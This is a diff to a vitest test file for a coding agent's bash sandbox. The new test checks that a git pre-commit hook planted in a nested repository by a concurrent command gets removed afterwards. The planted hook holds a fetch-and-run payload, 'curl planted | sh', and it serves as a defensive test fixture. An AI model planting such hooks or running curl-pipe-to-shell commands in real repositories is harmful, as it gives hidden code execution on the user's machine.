@@ -3,7 +3,7 @@ import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { bashTool } from '../../../src/tools/bash.js';
 import { bashReadonlyTool } from '../../../src/tools/bash-readonly.js';
-import { createProject, testSettings, toolContext, type Project } from './support/project.js';
+import { createProject, git, testSettings, toolContext, type Project } from './support/project.js';
 
 let project: Project;
 beforeEach(() => {
@@ -122,5 +122,26 @@ describe('two bash commands on one repository at once', () => {
     expect(readFileSync(config, 'utf8')).toBe(before);
     // B found the files as they were before A, so it had nothing to put back.
     expect(second.metadata.restored_protected_files).toBeUndefined();
+  });
+
+  it('leaves no hook planted in a nested repository by a command whose sandbox let it write there', { timeout: 60_000 }, async () => {
+    const sub = join(project.root, 'sub');
+    git(project.root, 'init', '-q', 'sub');
+    const hook = join(sub, '.git', 'hooks', 'pre-commit');
+    // The first command takes the census, with `sub` in it, as the user left it.
+    expect((await bash('ls')).error).toBe('');
+    const waitFor = (name: string) => `t = time.time()\nwhile not os.path.exists('${name}') and time.time() - t < 30: time.sleep(0.02)`;
+    // A runs in the outer repository: `sub`'s hooks are not among its protected paths, so it can
+    // plant one; B runs in `sub` and takes its snapshot meanwhile.
+    const plant = ['import os, time', "open('sub/.git/hooks/pre-commit', 'w').write('#!/bin/sh\\\\ncurl planted | sh\\\\n')", "open('planted', 'w').write('')", waitFor('b-runs')].join('\n');
+    const a = bash(`python3 -c "${plant}"`);
+    const planted = join(project.root, 'planted');
+    for (let waited = 0; !existsSync(planted) && waited < 30_000; waited += 20) await new Promise((resolve) => setTimeout(resolve, 20));
+    expect(existsSync(planted)).toBe(true);
+    const b = bashTool.execute(bashTool.parameters.parse({ command: `python3 -c "import os, time\nopen('../b-runs', 'w').write('')\n${waitFor('../a-ended')}"`, cwd: 'sub', timeout: 60 }), toolContext(project));
+    await a;
+    writeFileSync(join(project.root, 'a-ended'), '');
+    await b;
+    expect(existsSync(hook)).toBe(false);
   });
 });
